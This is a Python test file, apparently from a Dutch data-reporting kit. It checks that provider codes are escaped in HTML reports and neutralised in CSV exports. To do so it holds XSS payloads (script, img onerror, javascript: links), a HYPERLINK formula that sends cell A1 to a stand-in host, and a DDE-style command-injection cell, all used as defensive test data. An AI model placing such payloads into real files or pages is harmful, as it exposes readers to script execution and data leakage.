"""Codes typed by other organisations stay text: no script in a report, no formula in a CSV."""

from __future__ import annotations

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from IPython.display import HTML, Markdown
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from kit import sections, trends
from kit.checks import allow_test_bsns, evaluate_checks, load_checks, prepare_scan, quickscan_tables
from kit.checks.patterns import provider_patterns
from kit.outputs import SharedTable, neutralise_formulas, write_shared

PEILDATUM = "2026-03-31"
SCRIPT = "<script>alert(3)</script>"
IMG = "<img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"klik")'
LINK = "[klik](javascript:alert(1))"
#: the example region's three largest aanbieders get these codes in every message
CODES = {"98000001": SCRIPT, "98000002": IMG, "98000003": FORMULA, "98000004": LINK}


class _Active(HTMLParser):
    """Collects what a browser would run: script and img elements, on* attributes, js: links."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "img", "iframe"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"{tag} {name}={value}")


def active(html: str) -> list[str]:
    """The active markup in an HTML fragment (empty when it is inert)."""
    parser = _Active()
    parser.feed(html)
    return parser.found


def rendered(markdown: str) -> str:
    """Markdown as the report exporter (nbconvert, mistune) turns it into HTML."""
    return markdown2html_mistune(markdown)


class TestTextHelpers:
    def test_esc_leaves_plain_text_and_makes_markup_inert(self):
        assert sections.esc("Aanbieder 98000001") == "Aanbieder 98000001"
        for bad in (SCRIPT, IMG, LINK):
            html = rendered(f"naam: {sections.esc(bad)}")
            assert active(html) == []
            assert "&lt;" in html or "&#91;" in html or "[klik]" in html

    def test_funnel_text_names_a_unit_without_running_its_code(self):
        funnel = pd.DataFrame(
            {
                "eenheid": [SCRIPT, IMG, LINK],
                "x": [90, 10, 50],
                "n": [100, 100, 100],
                "pct": [90.0, 10.0, 50.0],
                "doel_pct": [50.0] * 3,
                "beoordeling": ["boven 99,8%-grens", "onder 99,8%-grens", "binnen de grenzen"],
            }
        )
        text = sections.funnel_text(funnel, unit="aanbieder", threshold=10)
        assert "script" in text and "img" in text  # the units are named ...
        html = rendered(text)
        assert active(html) == []  # ... as text
        assert "&lt;script&gt;alert(3)&lt;/script&gt;" in html


class TestFormulas:
    def test_text_starting_like_a_formula_gets_a_quote_numbers_stay_numbers(self):
        frame = pd.DataFrame(
            {
                "aanbieder": ["=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-x", "\tx", "\rx", "ok"],
                "n": [-5, 1, 2, 3, 4, 5, 6],
                "pct": [-1.5, 0, 0, 0, 0, 0, 0],
            }
        )
        out = neutralise_formulas(frame)
        assert out["aanbieder"].tolist() == [
            "'=1+1",
            "'+cmd|' /C calc'!A0",
            "'@SUM(A1)",
            "'-x",
            "'\tx",
            "'\rx",
            "ok",
        ]
        assert out["n"].tolist() == [-5, 1, 2, 3, 4, 5, 6]  # a negative number is no formula
        assert out["pct"].iloc[0] == -1.5
        assert frame["aanbieder"].iloc[0] == "=1+1"  # input unchanged

    def test_write_shared_neutralises_categories_too(self, tmp_path):
        frame = pd.DataFrame({"aanbieder": pd.Categorical(["=A1", "b"]), "n": [12, 40]})
        write_shared({"t": SharedTable(frame, ["n"])}, tmp_path)
        got = pd.read_csv(tmp_path / "t.csv", dtype=str)
        assert got["aanbieder"].tolist() == ["'=A1", "b"]
        assert got["n"].tolist() == ["10", "40"]


@pytest.fixture(scope="module")
def hostile_store(example_store, tmp_path_factory) -> Path:
    """The example store with aanbieder codes that carry markup and spreadsheet formulas."""
    store = tmp_path_factory.mktemp("vijandig") / "store"
    shutil.copytree(example_store, store)
    for path in store.glob("*/*.parquet"):
        frame = pd.read_parquet(path)
        changed = False
        for col in frame.columns:
            if frame[col].dtype == object and frame[col].isin(list(CODES)).any():
                frame[col] = frame[col].replace(CODES)
                changed = True
        if changed:
            frame.to_parquet(path, index=False)
    return store


def test_shared_csvs_hold_no_formula(hostile_store, tmp_path):
    data = prepare_scan(hostile_store, peildatum=PEILDATUM)
    result = evaluate_checks(data, allow_test_bsns(load_checks(None)))
    tables = quickscan_tables(result, provider_patterns(data))
    tables |= trends.shared_tables(trends.compute_trends(data))
    written = write_shared(tables, tmp_path)
    cells = []
    for path in written:
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        cells += [c for col in frame.columns for c in frame[col]]
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # the code reached the CSVs ...
    formulas = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    formulas += [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.]+", c)]
    assert formulas == []  # ... as text


def test_trend_sections_show_codes_as_text(hostile_store, monkeypatch):
    monkeypatch.setenv("KIT_PSEUDONIEM_SLEUTEL", "voorbeeld-testsleutel")
    ctx = sections.prepare_trends(
        regio=SCRIPT, store=str(hostile_store), peildatum=PEILDATUM, gemeenten=[], live=False
    )
    shown = []
    monkeypatch.setattr(sections.trends, "display", shown.append)
    for section in (
        sections.trends_headline,
        sections.trends_funnels,
        sections.trends_wijzer,
        sections.trends_wachtrij,
        sections.trends_stock_flow,
    ):
        out = section(ctx)
        if out is not None:
            shown.append(out)
    html = []
    for obj in shown:
        if isinstance(obj, Markdown):
            html.append(rendered(obj.data))
        elif isinstance(obj, HTML):
            html.append(obj.data)
        else:  # a chart: the SVG a report embeds
            bundle = obj._repr_mimebundle_()
            bundle = bundle[0] if isinstance(bundle, tuple) else bundle
            html.append(str(bundle.get("image/svg+xml", "")))
    page = "\n".join(html)
    assert "&lt;script&gt;" in page  # the hostile codes are on the page ...
    assert active(rendered(SCRIPT + IMG + LINK)) != []  # (the check sees active markup)
    assert active(page) == []  # ... and none of them is active


def test_live_session_headers_show_names_as_text():
    """The three notebooks' session headers (one helper) escape the regio, gemeenten and files."""
    from types import SimpleNamespace

    base = {
        "live": True,
        "regio": SCRIPT,
        "peildatum": pd.Timestamp(PEILDATUM),
        "gemeenten": ["0599", "*x*"],
        "threshold": 10,
    }
    period = {"van": None, "tot": pd.Timestamp(PEILDATUM)}
    contexts = {
        sections.header: {
            **period,
            "store": Path("/a/store"),
            "meta": {"inleesrondes": [{"ingelezen": 3}, {"ingelezen": 4}]},
            "checks_file": "[c](javascript:x).yaml",
        },
        sections.definities_header: {
            **period,
            "definities_file": "[c](javascript:x).yaml",
            "results": SimpleNamespace(min_n=12),
        },
        sections.trends_header: {
            "van": "2024-01",
            "baseline": ("2024-01", "2024-12"),
            "bevolking_file": "[c](javascript:x).yaml",
        },
    }
    for header, extra in contexts.items():
        ctx = SimpleNamespace(**base, **extra)
        html = rendered(header(ctx).data)
        assert "<script>" not in html
        assert "<a " not in html and "<em>" not in html
        assert "&lt;script&gt;" in html and "0599, *x*" in html and "Kit-versie" in html
        assert header(SimpleNamespace(**{**base, "live": False}, **extra)) is None
    text = sections.header(SimpleNamespace(**base, **contexts[sections.header])).data
    assert "**Periode:** begin van de gegevens t/m 31 maart 2026" in text
    assert "7 bestanden in 2 inleesronde(s)" in text
